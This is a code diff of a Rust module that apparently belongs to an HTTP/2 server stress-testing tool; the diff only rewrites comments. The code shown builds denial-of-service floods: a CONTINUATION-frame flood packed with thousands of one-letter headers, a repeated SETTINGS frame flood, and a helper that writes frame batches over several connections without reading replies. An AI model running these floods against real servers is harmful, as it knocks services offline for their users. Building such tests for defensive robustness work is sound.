@@ -33,7 +33,7 @@ pub async fn continuations(offender: Arc<Offender>) {
         raw.drain_input();
         offender.did.opened_stream();
         let mut open = raw.write(&frame(HEADERS, 0, 1, &request_headers()), 1).await;
-        // Headers of one letter each, so that no limit of a single one is met.
+        // Headers with names of one letter, so that none exceeds a limit for single headers.
         let some: Vec<u8> = std::iter::repeat_n([0x00, 1, b'a', 1, b'b'], 3000).flatten().collect();
         let more = frame(CONTINUATION, 0, 1, &some);
         while open {
@@ -48,11 +48,11 @@ pub async fn pings(offender: Arc<Offender>) {
 }
 
 pub async fn settings(offender: Arc<Offender>) {
-    // SETTINGS_INITIAL_WINDOW_SIZE, with its default: to be applied to all streams each time.
+    // SETTINGS_INITIAL_WINDOW_SIZE with its default value. The server has to apply it to all streams each time.
     flood(offender, frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])).await;
 }
 
-/// One frame as often as possible; no answer is read.
+/// Sends one frame as often as possible, and reads no answer.
 async fn flood(offender: Arc<Offender>, frame: Vec<u8>) {
     let frames = frame.repeat(BATCH);
     at_once(&offender, CONNECTIONS, move |offender, _| {
@@ -66,6 +66,6 @@ async fn flood(offender: Arc<Offender>, frame: Vec<u8>) {
 }
 
 const CONNECTIONS: usize = 4;
-/// Frames in one write.
+/// How many frames are sent in one write.
 const BATCH: usize = 100;
 const CANCEL: [u8; 4] = 8u32.to_be_bytes();
